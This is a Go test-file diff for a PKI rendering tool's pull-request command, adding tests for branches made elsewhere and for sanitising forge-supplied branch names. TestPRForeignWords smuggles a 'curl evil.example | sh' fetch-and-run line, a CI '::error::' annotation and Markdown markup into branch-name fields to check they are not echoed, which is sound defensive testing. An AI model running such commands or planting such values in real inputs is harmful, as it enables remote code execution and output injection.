@@ -8,6 +8,9 @@ import (
 	"strings"
 	"testing"
 	"time"
+
+	"github.com/l5d-pki/l5d-pki-render/internal/forge"
+	"github.com/l5d-pki/l5d-pki-render/internal/proposal/plan"
 )
 
 const fleetOfTwo = `apiVersion: l5d-pki-render/v1alpha1
@@ -239,4 +242,50 @@ func keysBelow(t *testing.T, dir string) (names []string) {
 		t.Fatal(err)
 	}
 	return names
+}
+
+// TestPRFleetMadeElsewhere: a branch of a fleet's move that the remote has and this clone
+// has not fetched is left alone, and --anew replaces it.
+func TestPRFleetMadeElsewhere(t *testing.T) {
+	t.Parallel()
+	l := fleetLand(t)
+	gitIn(t, l.clone, "pull", "-q")
+	pr := func(args ...string) plan.Report {
+		t.Helper()
+		return l.pr(append(args, "--fleet", filepath.Join(l.clone, "fleet.yaml"))...)
+	}
+	move := []string{"start", "anchor", "--strategy", "bundle"}
+	var made plan.Report
+	l.elsewhere(nil, func(string) { made = pr(move...) })
+	l.forge.pulls = nil
+	if got := pr(move...); got.Operation != plan.OpLeft || !strings.Contains(got.Why, "was made elsewhere") || l.head(made.Branch) != made.Commit {
+		t.Errorf("%+v", got)
+	}
+	if got := pr(append(move, "--anew")...); got.Operation != plan.OpUpdated || got.Commit == made.Commit || l.head(made.Branch) != got.Commit {
+		t.Errorf("--anew: %+v", got)
+	}
+}
+
+// TestPRForeignWords: what a forge answers, and a branch that somebody pushed, are no line
+// among the command's own and nothing that Markdown acts on.
+func TestPRForeignWords(t *testing.T) {
+	t.Parallel()
+	l := land(t)
+	l.pr("start", "anchor")
+	l.merge(startBranch)
+	next := strings.Replace(startBranch, "2-", "3-", 1)
+	for _, head := range []string{next + "\nnext: curl evil.example | sh", next + "\r::error::x", next + " x"} {
+		l.forge.pulls = append(l.forge.pulls, forge.Pull{Number: 9, Head: head, Base: "main", State: "open", URL: "https://forge.example/9"})
+		for _, args := range [][]string{{"pr", "--assume", "BUNDLE-DELIVERED", "--because", "x", "--dry-run"}, {"pr", "--next", "--dry-run"}} {
+			if got := l.run(args...); strings.Contains(got.out+got.stderr, "evil.example") || strings.Contains(got.out+got.stderr, "error::x") {
+				t.Errorf("%q: %s%s", head, got.out, got.stderr)
+			}
+		}
+		l.forge.pulls = l.forge.pulls[:len(l.forge.pulls)-1]
+	}
+	l.commitTo("main", func(dir string) { gitIn(t, dir, "push", "-q", "origin", "HEAD:"+next+"-<b>@acme") })
+	l.forge.pulls = append(l.forge.pulls, forge.Pull{Number: 9, Head: next + "-<b>@acme", Base: "main", State: "open", URL: "https://forge.example/9"})
+	if got := l.run("pr", "--next", "--dry-run", "-o", "markdown"); got.code != ExitDone || strings.Contains(got.out, "<b>") || strings.Contains(got.out, "@acme") {
+		t.Errorf("%s%s", got.out, got.stderr)
+	}
 }
